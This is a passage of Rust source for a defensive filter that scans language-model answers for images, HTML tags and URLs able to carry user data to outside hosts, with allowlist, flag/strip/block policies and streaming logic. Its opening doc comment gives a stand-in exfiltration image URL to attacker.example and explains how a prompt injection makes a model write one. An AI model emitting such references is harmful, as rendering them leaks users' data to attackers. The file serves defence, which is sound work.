//! Links and images in model output that could carry data out.
//!
//! An answer that holds `![](https://attacker.example/p.png?d=<the user's
//! data>)` leaks that data the moment a chat UI renders it: the browser
//! fetches the image, no click needed. A prompt injection only has to make the
//! model write such a reference (OWASP LLM05, improper output handling). This
//! module finds the references in answer text and judges each one:
//!
//! - **what it is**: *auto-loading* (Markdown images, `<img>`, `<iframe>`,
//!   `<script>`, `<video>`, `<audio>`, `<source>`, `<embed>`, `<object>`,
//!   `<link>`, `<frame>`, `<track>`, SVG `<image>` and `<use>`, `<meta>`
//!   refresh, Markdown reference definitions, whose use cannot be told) or
//!   *clickable* (Markdown links, `<a>`, `<area>`, `<form>`, autolinks,
//!   bare `http(s)://` URLs);
//! - **where it goes**: hosts on the policy's allowlist are never touched;
//!   relative URLs and schemes other than http(s) (`data:`, `mailto:`) carry
//!   nothing to another host and are left alone;
//! - **whether it carries data**: a query or fragment value holding a
//!   sentence (three or more words), an encoded run (24+ base64/hex-like
//!   characters mixing letters and digits, or 32+ hex digits; 48+ in a path
//!   segment), a value of 8+ characters that appears in the request's own
//!   text, a sensitive value the detector finds (email, card, key...), or a
//!   reference too long to hold (see below).
//!
//! Actions per policy, `off < flag < strip < block`: `images` for
//! auto-loading references carrying data (default `strip`), `links` for
//! clickable ones carrying data (default `flag`), `unlisted` for any
//! reference to a host not on the allowlist (default `off`; with an
//! exhaustive allowlist, `strip`). The strongest that applies wins. Stripping
//! replaces an image or tag with `[image removed]`, a bare URL with
//! `[link removed]`, and keeps a Markdown link's text without its target.
//!
//! **Streams** ([`LinkStream`]) hold back only from the first byte that could
//! begin a reference until it is complete or ruled out, and never more than
//! [`MAX_HOLD`] bytes: a reference not complete within that many bytes is
//! judged as carrying data (reason `overlong`) and, when stripped, the rest of
//! it is dropped up to its end (`)`, `>` or whitespace). The text of a
//! Markdown link or image may be at most [`MAX_LINK_TEXT`] bytes on one line,
//! so ordinary brackets hold nothing back for long. A whole text is filtered
//! as one stream that ends at once, so both give the same result.
//!
//! Not covered (documented in docs/output-and-tools.md): references inside
//! code blocks are treated like any other; `www.` autolinks without a scheme,
//! CSS `url()` and `srcset` candidates after the first are not read; an
//! unclosed reference at the very end of an answer is left as text (no
//! renderer loads it).

use std::fmt;

use crate::sensitive::Detector;

/// The most bytes a stream holds back for one reference.
pub const MAX_HOLD: usize = 4096;
/// The longest text of a Markdown link or image (its `[...]`).
pub const MAX_LINK_TEXT: usize = 300;

const IMAGE_REMOVED: &str = "[image removed]";
const LINK_REMOVED: &str = "[link removed]";

/// What a rule does, weakest first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Action {
    Off,
    Flag,
    Strip,
    Block,
}

impl Action {
    pub fn parse(s: &str) -> Option<Action> {
        Some(match s {
            "off" => Action::Off,
            "flag" => Action::Flag,
            "strip" => Action::Strip,
            "block" => Action::Block,
            _ => return None,
        })
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Action::Off => "off",
            Action::Flag => "flag",
            Action::Strip => "strip",
            Action::Block => "block",
        }
    }
}

/// Whether a reference loads by itself or needs a click.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum RefKind {
    Image,
    Link,
    /// Script in HTML: a `<script>` tag, an event handler, a `javascript:`
    /// URL (checked when the policy says the output feeds an HTML page).
    Script,
}

impl RefKind {
    pub fn as_str(self) -> &'static str {
        match self {
            RefKind::Image => "image",
            RefKind::Link => "link",
            RefKind::Script => "script",
        }
    }
}

/// Why a reference was acted on.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Reason {
    /// Only that its host is not on the allowlist.
    Unlisted,
    /// A sentence in a query or fragment value.
    Sentence,
    /// A long encoded run.
    Encoded,
    /// A value that appears in the request's text.
    Prompt,
    /// A sensitive value (email, card, key...).
    Sensitive,
    /// Longer than a stream may hold.
    Overlong,
    /// Code a browser would run.
    Active,
}

impl Reason {
    pub fn as_str(self) -> &'static str {
        match self {
            Reason::Unlisted => "unlisted_host",
            Reason::Sentence => "sentence",
            Reason::Encoded => "encoded",
            Reason::Prompt => "prompt_text",
            Reason::Sensitive => "sensitive",
            Reason::Overlong => "overlong",
            Reason::Active => "active_content",
        }
    }
}

/// A reference the policy acted on: never its URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct LinkEdit {
    pub kind: RefKind,
    pub reason: Reason,
    pub action: Action,
}

impl fmt::Display for LinkEdit {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.kind.as_str(), self.reason.as_str())
    }
}

/// A reference whose action is `block`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Blocked(pub LinkEdit);

#[derive(Debug, Clone, PartialEq, Eq)]
enum HostPattern {
    Exact(String),
    /// `*.example.com`: any subdomain, stored as `.example.com`.
    Subdomains(String),
}

/// Host names and `*.` patterns, as an operator writes them in an
/// allowlist: `docs.example.com` matches that host exactly, `*.example.com`
/// any subdomain (not the name itself). Compared in the URL parser's form
/// (lower case, IDNA).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct HostList(Vec<HostPattern>);

impl HostList {
    pub fn parse(patterns: &[String]) -> Result<HostList, String> {
        patterns
            .iter()
            .map(|pattern| {
                let p = pattern.trim().to_ascii_lowercase();
                let (sub, name) = match p.strip_prefix("*.") {
                    Some(rest) => (true, rest.to_owned()),
                    None => (false, p.clone()),
                };
                let parsed = url::Url::parse(&format!("https://{name}/"))
                    .ok()
                    .and_then(|u| u.host_str().map(str::to_owned))
                    .filter(|h| !h.is_empty() && !name.contains(['/', '*', '@', ':']));
                match parsed {
                    Some(h) if sub => Ok(HostPattern::Subdomains(format!(".{h}"))),
                    Some(h) => Ok(HostPattern::Exact(h)),
                    None => Err(format!(
                        "`{pattern}` is not a host name or `*.` followed by one"
                    )),
                }
            })
            .collect::<Result<_, _>>()
            .map(HostList)
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    pub fn matches(&self, host: &str) -> bool {
        self.0.iter().any(|p| match p {
            HostPattern::Exact(h) => h == host,
            HostPattern::Subdomains(suffix) => host.ends_with(suffix.as_str()),
        })
    }

    /// Whether `url`, read as a browser would (character references, the
    /// host after any `user@`), is an absolute http(s) URL to a listed host.
    pub fn allows_url(&self, url: &str) -> bool {
        parse_url(url)
            .as_ref()
            .and_then(|u| u.host_str())
            .is_some_and(|h| self.matches(h))
    }

    pub fn describe(&self) -> String {
        self.0
            .iter()
            .map(|p| match p {
                HostPattern::Exact(h) => h.clone(),
                HostPattern::Subdomains(s) => format!("*{s}"),
            })
            .collect::<Vec<_>>()
            .join(",")
    }
}

/// What a policy does about links and images in answers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LinkPolicy {
    allow: HostList,
    pub images: Action,
    pub links: Action,
    pub unlisted: Action,
    /// The output feeds an HTML page: script tags, event-handler attributes
    /// and `javascript:`/`vbscript:`/`data:text/html` URLs get this action.
    /// Default `off` (most clients render Markdown, not raw HTML).
    pub html: Action,
}

impl Default for LinkPolicy {
    fn default() -> Self {
        LinkPolicy {
            allow: HostList::default(),
            images: Action::Strip,
            links: Action::Flag,
            unlisted: Action::Off,
            html: Action::Off,
        }
    }
}

impl LinkPolicy {
    /// Nothing checked.
    pub fn off() -> LinkPolicy {
        LinkPolicy {
            allow: HostList::default(),
            images: Action::Off,
            links: Action::Off,
            unlisted: Action::Off,
            html: Action::Off,
        }
    }

    /// `allow`: host names (`docs.example.com`, matched exactly) or
    /// `*.example.com` (any subdomain, not the name itself).
    pub fn new(
        allow: &[String],
        images: Action,
        links: Action,
        unlisted: Action,
    ) -> Result<LinkPolicy, String> {
        let allow = HostList::parse(allow)?;
        Ok(LinkPolicy {
            allow,
            images,
            links,
            unlisted,
            html: Action::Off,
        })
    }

    /// Also checks for script, for output that feeds an HTML page.
    pub fn with_html(mut self, html: Action) -> LinkPolicy {
        self.html = html;
        self
    }

    pub fn is_off(&self) -> bool {
        self.images == Action::Off
            && self.links == Action::Off
            && self.unlisted == Action::Off
            && self.html == Action::Off
    }

    pub fn host_allowed(&self, host: &str) -> bool {
        self.allow.matches(host)
    }

    /// `images=strip links=flag unlisted=off allow=docs.example.com,*.cdn.net`.
    pub fn describe(&self) -> String {
        if self.is_off() {
            return "off".into();
        }
        let mut s = format!(
            "images={} links={} unlisted={}",
            self.images.as_str(),
            self.links.as_str(),
            self.unlisted.as_str()
        );
        if self.html != Action::Off {
            s.push_str(&format!(" html={}", self.html.as_str()));
        }
        if !self.allow.is_empty() {
            s.push_str(&format!(" allow={}", self.allow.describe()));
        }
        s
    }
}

/// The policy and what it compares against for one exchange.
#[derive(Debug, Clone)]
pub struct LinkGuard {
    policy: std::sync::Arc<LinkPolicy>,
    /// The request's text, lower-cased (for values the answer would carry
    /// out).
    prompt: String,
}

impl LinkGuard {
    /// `prompt`: the request's texts; kept lower-cased.
    pub fn new<'a>(
        policy: std::sync::Arc<LinkPolicy>,
        prompt: impl IntoIterator<Item = &'a str>,
    ) -> LinkGuard {
        let mut lower = String::new();
        if !policy.is_off() {
            for text in prompt {
                lower.push_str(&text.to_lowercase());
                lower.push('\n');
            }
        }
        LinkGuard {
            policy,
            prompt: lower,
        }
    }

    pub fn is_off(&self) -> bool {
        self.policy.is_off()
    }

    /// Filters a whole text: `None` when nothing changed.
    pub fn whole(&self, text: &str, edits: &mut Vec<LinkEdit>) -> Result<Option<String>, Blocked> {
        if self.is_off() || !text.bytes().any(may_start) {
            return Ok(None);
        }
        let mut stream = LinkStream::default();
        let mut out = stream.push(self, text)?;
        out.push_str(&stream.finish(self)?);
        edits.append(&mut stream.edits);
        Ok((out != text).then_some(out))
    }

    /// The action for a reference to `raw` (a URL as written), if any.
    /// A URL a browser would run as script, when the output feeds HTML.
    fn judge_script(&self, raw: &str) -> Option<LinkEdit> {
        (self.policy.html != Action::Off && is_script_url(raw)).then_some(LinkEdit {
            kind: RefKind::Script,
            reason: Reason::Active,
            action: self.policy.html,
        })
    }

    fn judge(&self, raw: &str, kind: RefKind) -> Option<LinkEdit> {
        if let Some(edit) = self.judge_script(raw) {
            return Some(edit);
        }
        // Most links in answers carry nothing: without a query, fragment,
        // escape, space or long path segment no data signal can fire, and
        // only `unlisted` needs the host (parsing showed in profiles).
        if self.policy.unlisted == Action::Off && !may_carry_data(raw) {
            return None;
        }
        let url = parse_url(raw)?;
        let host = url.host_str()?;
        if self.policy.host_allowed(host) {
            return None;
        }
        self.decide(kind, self.carries_data(&url))
    }

    /// A reference too long to hold: carrying data, unless what there is of
    /// its URL already names an allowed host.
    fn judge_overlong(&self, raw: Option<&str>, kind: RefKind) -> Option<LinkEdit> {
        let url = raw.and_then(parse_url);
        if url
            .as_ref()
            .and_then(|u| u.host_str())
            .is_some_and(|h| self.policy.host_allowed(h))
        {
            return None;
        }
        self.decide(kind, Some(Reason::Overlong))
    }

    fn decide(&self, kind: RefKind, data: Option<Reason>) -> Option<LinkEdit> {
        let by_data = match (data, kind) {
            (None, _) => Action::Off,
            (Some(_), RefKind::Image) => self.policy.images,
            (Some(_), RefKind::Link) => self.policy.links,
            (Some(_), RefKind::Script) => self.policy.html,
        };
        let action = by_data.max(self.policy.unlisted);
        (action != Action::Off).then(|| LinkEdit {
            kind,
            reason: if by_data >= self.policy.unlisted {
                data.unwrap_or(Reason::Unlisted)
            } else {
                Reason::Unlisted
            },
            action,
        })
    }

    fn carries_data(&self, url: &url::Url) -> Option<Reason> {
        if url.as_str().len() > MAX_HOLD {
            return Some(Reason::Overlong);
        }
        let mut values: Vec<String> = url
            .query_pairs()
            .flat_map(|(k, v)| [k.into_owned(), v.into_owned()])
            .collect();
        if let Some(f) = url.fragment() {
            values.push(percent_decode(f));
        }
        let segments: Vec<String> = url
            .path_segments()
            .into_iter()
            .flatten()
            .map(percent_decode)
            .collect();
        let mut reason: Option<Reason> = None;
        let mut note = |r: Reason| reason = reason.max(Some(r));
        for v in &values {
            if words(v) >= 3 {
                note(Reason::Sentence);
            }
            if encoded_run(v, 24) {
                note(Reason::Encoded);
            }
            if self.in_prompt(v, 8) {
                note(Reason::Prompt);
            }
        }
        for s in &segments {
            if words(s) >= 3 {
                note(Reason::Sentence);
            }
            if encoded_run(s, 48) {
                note(Reason::Encoded);
            }
            if self.in_prompt(s, 16) {
                note(Reason::Prompt);
            }
        }
        let all: Vec<&str> = values
            .iter()
            .chain(segments.iter())
            .map(String::as_str)
            .collect();
        if !Detector::shared().scan(&all.join(" ")).is_empty() {
            note(Reason::Sensitive);
        }
        reason
    }

    fn in_prompt(&self, value: &str, min: usize) -> bool {
        let v = value.trim();
        v.len() >= min
            && v.chars().any(char::is_alphanumeric)
            && self.prompt.contains(&v.to_lowercase())
    }
}

/// Whether a URL as written could hold any of the data signals: every one
/// needs a query or fragment, an escape, a space, or a path segment of 16 or
/// more bytes.
fn may_carry_data(raw: &str) -> bool {
    raw.len() > 64
        || raw.contains(['?', '#', '%', '+', '&', ' ', '\t', '\n'])
        || raw.split('/').any(|segment| segment.len() >= 16)
}

/// `javascript:`, `vbscript:` and `data:text/html` URLs, as a browser reads
/// them: character references decoded, ASCII whitespace and controls inside
/// the scheme ignored, any case.
fn is_script_url(raw: &str) -> bool {
    let decoded = decode_entities(raw.trim());
    let scheme: String = decoded
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .take(16)
        .collect::<String>()
        .to_ascii_lowercase();
    scheme.starts_with("javascript:")
        || scheme.starts_with("vbscript:")
        || scheme.starts_with("data:text/html")
}

/// Whether `b` could begin a reference.
fn may_start(b: u8) -> bool {
    matches!(b, b'!' | b'[' | b'<' | b'h' | b'H')
}

fn parse_url(raw: &str) -> Option<url::Url> {
    let raw = raw.trim();
    let raw = raw
        .strip_prefix('<')
        .and_then(|r| r.strip_suffix('>'))
        .unwrap_or(raw);
    let decoded = decode_entities(raw);
    let lower = decoded.to_ascii_lowercase();
    let full = if decoded.starts_with("//") {
        format!("https:{decoded}")
    } else if lower.starts_with("http:") || lower.starts_with("https:") {
        decoded
    } else {
        return None;
    };
    url::Url::parse(&full).ok()
}

/// The HTML character references a browser decodes in an attribute, enough
/// that `https&#58;//` or `&#x68;ttps://` cannot hide a URL.
fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest[1..].find(|c: char| !c.is_ascii_alphanumeric() && c != '#');
        let (name, after) = match end {
            Some(e) => (&rest[1..1 + e], &rest[1 + e..]),
            None => (&rest[1..], ""),
        };
        let decoded = if let Some(num) = name.strip_prefix('#') {
            let n = match num.strip_prefix(['x', 'X']) {
                Some(hex) => u32::from_str_radix(hex, 16).ok(),
                None => num.parse().ok(),
            };
            n.and_then(char::from_u32)
        } else {
            match name.to_ascii_lowercase().as_str() {
                "amp" => Some('&'),
                "colon" => Some(':'),
                "sol" => Some('/'),
                "period" => Some('.'),
                "quest" => Some('?'),
                "equals" => Some('='),
                "num" => Some('#'),
                _ => None,
            }
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = after.strip_prefix(';').unwrap_or(after);
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Percent escapes decoded; invalid ones and invalid UTF-8 kept as they
/// are (lossily), as a browser shows them.
fn percent_decode(s: &str) -> String {
    percent_encoding::percent_decode_str(s)
        .decode_utf8_lossy()
        .into_owned()
}

/// Words of two or more letters.
fn words(s: &str) -> usize {
    s.split(|c: char| c.is_whitespace() || c == '+')
        .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
        .count()
}

/// A run of `min` or more base64/hex-alphabet characters that mixes letters
/// and digits, or of 32 or more hex digits when `min` is lower than that.
fn encoded_run(s: &str, min: usize) -> bool {
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let start = i;
        while i < b.len()
            && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'+' | b'/' | b'=' | b'_' | b'-'))
        {
            i += 1;
        }
        let run = &b[start..i];
        if run.len() >= min {
            let letters = run.iter().filter(|c| c.is_ascii_alphabetic()).count();
            let digits = run.iter().filter(|c| c.is_ascii_digit()).count();
            let hex_only = run.iter().all(u8::is_ascii_hexdigit);
            // A long word or a kebab-case slug is not an encoding; a mix of
            // letters and digits, or a long hex string, is.
            if (letters > 0 && digits >= 2 && digits * 20 >= run.len())
                || (hex_only && run.len() >= min.max(32))
            {
                return true;
            }
        }
        i += 1;
    }
    false
}

/// A reference found at a position.
enum Scan {
    /// Not a reference: the byte is text.
    No,
    /// The text ends before the reference could be judged.
    Open,
    /// Not complete within [`MAX_HOLD`] bytes: what it is, where its URL
    /// begins if it began, and the byte that ends it (`None`: whitespace).
    Overflow {
        kind: RefKind,
        url_start: Option<usize>,
        end: Option<u8>,
    },
    Item(Item),
}

/// A complete reference, as byte offsets into the scanned text.
struct Item {
    end: usize,
    form: Form,
}

enum Form {
    /// `![alt](url)`.
    Image { url: (usize, usize) },
    /// `[text](url)`.
    Link {
        text: (usize, usize),
        url: (usize, usize),
    },
    /// `[id]: url` at the start of a line.
    Definition { url: (usize, usize) },
    /// An HTML tag with URL attributes; `active`: a script tag or one with
    /// an event handler.
    Tag {
        urls: Vec<((usize, usize), RefKind)>,
        active: bool,
    },
    /// `<https://…>` or a bare `https://…`.
    Url { url: (usize, usize) },
}

/// Tags whose URL attributes load by themselves, and those that need a click.
fn tag_kind(name: &str) -> Option<RefKind> {
    Some(match name {
        "img" | "iframe" | "script" | "video" | "audio" | "source" | "embed" | "object"
        | "link" | "frame" | "track" | "image" | "use" | "meta" | "input" | "body" | "picture"
        | "svg" | "feimage" => RefKind::Image,
        "a" | "area" | "form" | "button" => RefKind::Link,
        _ => return None,
    })
}

const URL_ATTRIBUTES: &[&str] = &[
    "src",
    "href",
    "xlink:href",
    "srcset",
    "data",
    "poster",
    "background",
    "action",
    "formaction",
    "content",
];

/// The scanning state of one text stream.
#[derive(Debug, Default)]
pub struct LinkStream {
    /// Text held back: it begins where a reference may begin.
    held: String,
    /// The last byte released (line starts and word boundaries).
    prev: Option<u8>,
    /// Dropping the rest of a stripped overlong reference, up to this byte
    /// (`None`: up to whitespace).
    dropping: Option<Option<u8>>,
    /// What was acted on so far.
    pub edits: Vec<LinkEdit>,
}

impl LinkStream {
    /// Feeds text; returns what may be released.
    pub fn push(&mut self, guard: &LinkGuard, piece: &str) -> Result<String, Blocked> {
        if guard.is_off() {
            return Ok(piece.to_owned());
        }
        self.held.push_str(piece);
        self.run(guard, false)
    }

    /// The stream ended: releases what was held.
    pub fn finish(&mut self, guard: &LinkGuard) -> Result<String, Blocked> {
        if guard.is_off() {
            return Ok(std::mem::take(&mut self.held));
        }
        self.run(guard, true)
    }

    fn run(&mut self, guard: &LinkGuard, last: bool) -> Result<String, Blocked> {
        let text = std::mem::take(&mut self.held);
        let b = text.as_bytes();
        let mut out = String::with_capacity(text.len());
        let mut i = 0;
        let mut emitted = 0;
        while i < b.len() {
            if let Some(until) = self.dropping {
                let stop = b[i..].iter().position(|&c| match until {
                    Some(t) => c == t,
                    None => c.is_ascii_whitespace(),
                });
                match stop {
                    Some(k) => {
                        // The closing byte goes too; whitespace stays.
                        i += k + usize::from(until.is_some());
                        self.dropping = None;
                    }
                    None => i = b.len(),
                }
                emitted = i;
                continue;
            }
            let prev = if i == 0 { self.prev } else { Some(b[i - 1]) };
            if !may_start(b[i]) {
                i += 1;
                continue;
            }
            let mut cut = (i + MAX_HOLD).min(text.len());
            while !text.is_char_boundary(cut) {
                cut -= 1;
            }
            let window = &text[i..cut];
            // Decided by how much text there is, not by where the window was
            // cut, so that a stream and a whole text agree.
            let bounded = text.len() - i >= MAX_HOLD;
            match scan_at(
                window,
                prev,
                bounded,
                last,
                guard.policy.html != Action::Off,
            ) {
                Scan::No => i += 1,
                Scan::Open => {
                    out.push_str(&text[emitted..i]);
                    if i > 0 {
                        self.prev = Some(b[i - 1]);
                    }
                    self.held = text[i..].to_owned();
                    return Ok(out);
                }
                Scan::Overflow {
                    kind,
                    url_start,
                    end,
                } => {
                    out.push_str(&text[emitted..i]);
                    let edit = guard.judge_overlong(url_start.map(|s| &window[s..]), kind);
                    match edit {
                        Some(e) if e.action == Action::Block => return Err(Blocked(e)),
                        Some(e) if e.action == Action::Strip => {
                            self.edits.push(e);
                            out.push_str(marker(kind));
                            self.dropping = Some(end);
                            i += window.len();
                        }
                        other => {
                            self.edits.extend(other);
                            out.push_str(window);
                            i += window.len();
                        }
                    }
                    emitted = i;
                }
                Scan::Item(item) => {
                    out.push_str(&text[emitted..i]);
                    let source = &window[..item.end];
                    out.push_str(&self.rewrite(guard, source, &item.form)?);
                    i += item.end;
                    emitted = i;
                }
            }
        }
        out.push_str(&text[emitted..]);
        self.prev = b.last().copied().or(self.prev);
        Ok(out)
    }

    /// The text that replaces a complete reference.
    fn rewrite(&mut self, guard: &LinkGuard, source: &str, form: &Form) -> Result<String, Blocked> {
        let act = |url: (usize, usize), kind: RefKind, edits: &mut Vec<LinkEdit>| match guard
            .judge(&source[url.0..url.1], kind)
        {
            Some(e) if e.action == Action::Block => Err(Blocked(e)),
            Some(e) => {
                edits.push(e);
                Ok(e.action == Action::Strip)
            }
            None => Ok(false),
        };
        Ok(match form {
            Form::Image { url } | Form::Definition { url } => {
                if act(*url, RefKind::Image, &mut self.edits)? {
                    IMAGE_REMOVED.to_owned()
                } else {
                    source.to_owned()
                }
            }
            Form::Url { url } => {
                if act(*url, RefKind::Link, &mut self.edits)? {
                    LINK_REMOVED.to_owned()
                } else {
                    source.to_owned()
                }
            }
            Form::Tag { urls, active } => {
                if *active && guard.policy.html != Action::Off {
                    let edit = LinkEdit {
                        kind: RefKind::Script,
                        reason: Reason::Active,
                        action: guard.policy.html,
                    };
                    if edit.action == Action::Block {
                        return Err(Blocked(edit));
                    }
                    self.edits.push(edit);
                    if edit.action == Action::Strip {
                        return Ok(String::new());
                    }
                }
                let mut strip = false;
                let mut image = false;
                for (url, kind) in urls {
                    let stripped = act(*url, *kind, &mut self.edits)?;
                    strip |= stripped;
                    image |= stripped && *kind == RefKind::Image;
                }
                match (strip, image) {
                    (false, _) => source.to_owned(),
                    (true, true) => IMAGE_REMOVED.to_owned(),
                    (true, false) => String::new(),
                }
            }
            Form::Link { text, url } => {
                // The link's text may hold an image (a badge): filtered as a
                // text of its own.
                let inner = &source[text.0..text.1];
                let mut nested = LinkStream::default();
                let mut filtered = nested.push(guard, inner)?;
                filtered.push_str(&nested.finish(guard)?);
                self.edits.append(&mut nested.edits);
                if act(*url, RefKind::Link, &mut self.edits)? {
                    filtered
                } else {
                    format!("{}{filtered}{}", &source[..text.0], &source[text.1..])
                }
            }
        })
    }
}

fn marker(kind: RefKind) -> &'static str {
    match kind {
        RefKind::Image => IMAGE_REMOVED,
        RefKind::Link | RefKind::Script => LINK_REMOVED,
    }
}

/// What begins at the start of `w`, which holds up to [`MAX_HOLD`] bytes of
/// the text. `bounded`: the text goes on past `w`, which is all a stream may
/// hold; `ended`: the text ends with `w`.
fn scan_at(w: &str, prev: Option<u8>, bounded: bool, ended: bool, html: bool) -> Scan {
    let b = w.as_bytes();
    // Past the bound, a reference whose destination began is overlong.
    let out_of_text = |kind: RefKind, url_start: Option<usize>, end: Option<u8>| {
        let overflow = url_start.map(|_| Scan::Overflow {
            kind,
            url_start,
            end,
        });
        ran_out(bounded, ended, overflow)
    };
    match b[0] {
        b'!' => {
            if b.len() < 2 {
                return out_of_text(RefKind::Image, None, None);
            }
            if b[1] != b'[' {
                return Scan::No;
            }
            match bracketed(b, 1) {
                Bracket::Open => out_of_text(RefKind::Image, None, None),
                Bracket::No => Scan::No,
                Bracket::Closed(close) => match destination(b, close + 1) {
                    Dest::Open(url_start) => out_of_text(RefKind::Image, url_start, Some(b')')),
                    Dest::No => Scan::No,
                    Dest::Found { url, end } => Scan::Item(Item {
                        end,
                        form: Form::Image { url },
                    }),
                },
            }
        }
        b'[' => match bracketed(b, 0) {
            Bracket::Open => out_of_text(RefKind::Link, None, None),
            Bracket::No => Scan::No,
            Bracket::Closed(close) => {
                let line_start = matches!(prev, None | Some(b'\n'));
                if line_start && b.get(close + 1) == Some(&b':') {
                    return match bare_url(b, skip_spaces(b, close + 2), ended && !bounded) {
                        Some((url, Some(end))) => Scan::Item(Item {
                            end,
                            form: Form::Definition { url },
                        }),
                        Some((url, None)) => out_of_text(RefKind::Image, Some(url.0), None),
                        None => Scan::No,
                    };
                }
                match destination(b, close + 1) {
                    Dest::Open(url_start) => out_of_text(RefKind::Link, url_start, Some(b')')),
                    Dest::No => Scan::No,
                    Dest::Found { url, end } => Scan::Item(Item {
                        end,
                        form: Form::Link {
                            text: (1, close),
                            url,
                        },
                    }),
                }
            }
        },
        b'<' => tag(w, bounded, ended, html),
        _ => {
            // A bare URL begins a word.
            if prev.is_some_and(|p| {
                p.is_ascii_alphanumeric()
                    || p == b'/'
                    || p == b'='
                    || p == b'"'
                    || p == b'\''
                    || p == b'('
            }) {
                return Scan::No;
            }
            let head = &b[..b.len().min(8)];
            let is_prefix = |scheme: &[u8]| {
                head.len() <= scheme.len() && head.eq_ignore_ascii_case(&scheme[..head.len()])
            };
            let starts = |scheme: &[u8]| {
                head.len() >= scheme.len() && head[..scheme.len()].eq_ignore_ascii_case(scheme)
            };
            let scheme = if starts(b"https://") {
                8
            } else if starts(b"http://") {
                7
            } else if is_prefix(b"https://") || is_prefix(b"http://") {
                return out_of_text(RefKind::Link, None, None);
            } else {
                return Scan::No;
            };
            match bare_url(b, 0, ended && !bounded) {
                Some((url, Some(end))) if url.1 > scheme => Scan::Item(Item {
                    end,
                    form: Form::Url { url },
                }),
                Some((_, None)) => out_of_text(RefKind::Link, Some(0), None),
                _ => Scan::No,
            }
        }
    }
}

/// What running out of the window means: past the bound, `overflow` (a
/// reference that began and did not end within it) or plain text; before
/// it, open while more text may come.
fn ran_out(bounded: bool, ended: bool, overflow: Option<Scan>) -> Scan {
    match overflow {
        Some(o) if bounded => o,
        _ if bounded || ended => Scan::No,
        _ => Scan::Open,
    }
}

enum Bracket {
    Open,
    No,
    /// The index of the closing `]`.
    Closed(usize),
}

/// The `[...]` that opens at `b[at]`: one line, nested brackets balanced, at
/// most [`MAX_LINK_TEXT`] bytes.
fn bracketed(b: &[u8], at: usize) -> Bracket {
    let mut depth = 0usize;
    let mut i = at;
    while i < b.len() {
        if i - at > MAX_LINK_TEXT {
            return Bracket::No;
        }
        match b[i] {
            b'\\' => i += 1,
            b'[' => depth += 1,
            b']' => {
                depth -= 1;
                if depth == 0 {
                    return Bracket::Closed(i);
                }
            }
            b'\n' => return Bracket::No,
            _ => {}
        }
        i += 1;
    }
    Bracket::Open
}

enum Dest {
    /// Ran out of text; the URL begins here if it began.
    Open(Option<usize>),
    No,
    Found {
        url: (usize, usize),
        end: usize,
    },
}

/// `(url "title")` at `b[at]`.
fn destination(b: &[u8], at: usize) -> Dest {
    if at >= b.len() {
        return Dest::Open(None);
    }
    if b[at] != b'(' {
        return Dest::No;
    }
    let start = skip_spaces(b, at + 1);
    if start >= b.len() {
        return Dest::Open(None);
    }
    let (url, mut i) = if b[start] == b'<' {
        match b[start..].iter().position(|&c| c == b'>' || c == b'\n') {
            Some(k) if b[start + k] == b'>' => ((start + 1, start + k), start + k + 1),
            Some(_) => return Dest::No,
            None => return Dest::Open(Some(start)),
        }
    } else {
        let mut depth = 0usize;
        let mut i = start;
        loop {
            match b.get(i) {
                None => return Dest::Open(Some(start)),
                Some(b'(') => depth += 1,
                Some(b')') if depth == 0 => break,
                Some(b')') => depth -= 1,
                Some(c) if c.is_ascii_whitespace() => break,
                Some(_) => {}
            }
            i += 1;
        }
        ((start, i), i)
    };
    i = skip_spaces(b, i);
    // An optional title in quotes or parentheses.
    if let Some(&q) = b.get(i)
        && matches!(q, b'"' | b'\'' | b'(')
    {
        let close = if q == b'(' { b')' } else { q };
        match b[i + 1..].iter().position(|&c| c == close) {
            Some(k) => i = skip_spaces(b, i + 1 + k + 1),
            None => return Dest::Open(Some(url.0)),
        }
    }
    match b.get(i) {
        None => Dest::Open(Some(url.0)),
        Some(b')') => Dest::Found { url, end: i + 1 },
        Some(_) => Dest::No,
    }
}

fn skip_spaces(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && (b[i] == b' ' || b[i] == b'\t') {
        i += 1;
    }
    i
}

/// A bare URL from `b[at]`: its span, and where it ends (`None`: the text
/// ran out first, and `ended` says more may come). Trailing punctuation is
/// not part of it.
fn bare_url(b: &[u8], at: usize, ended: bool) -> Option<((usize, usize), Option<usize>)> {
    let mut i = at;
    while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'<' | b'>' | b'"' | b'`') {
        i += 1;
    }
    if i == b.len() && !ended {
        return Some(((at, i), None));
    }
    let mut end = i;
    while end > at
        && matches!(
            b[end - 1],
            b'.' | b',' | b';' | b':' | b'!' | b'?' | b'\'' | b'*' | b'_'
        )
    {
        end -= 1;
    }
    // A closing parenthesis ends the URL when it has no opening one.
    let opened = b[at..end].iter().filter(|&&c| c == b'(').count();
    let mut closed = b[at..end].iter().filter(|&&c| c == b')').count();
    while end > at && b[end - 1] == b')' && closed > opened {
        end -= 1;
        closed -= 1;
    }
    (end > at).then_some(((at, end), Some(end)))
}

/// An HTML tag or autolink at `w[0] == '<'`. Past the bound, a tag that
/// may load something is overlong whether or not its URL began. `html`:
/// every tag is read, for script (otherwise only tags with URLs).
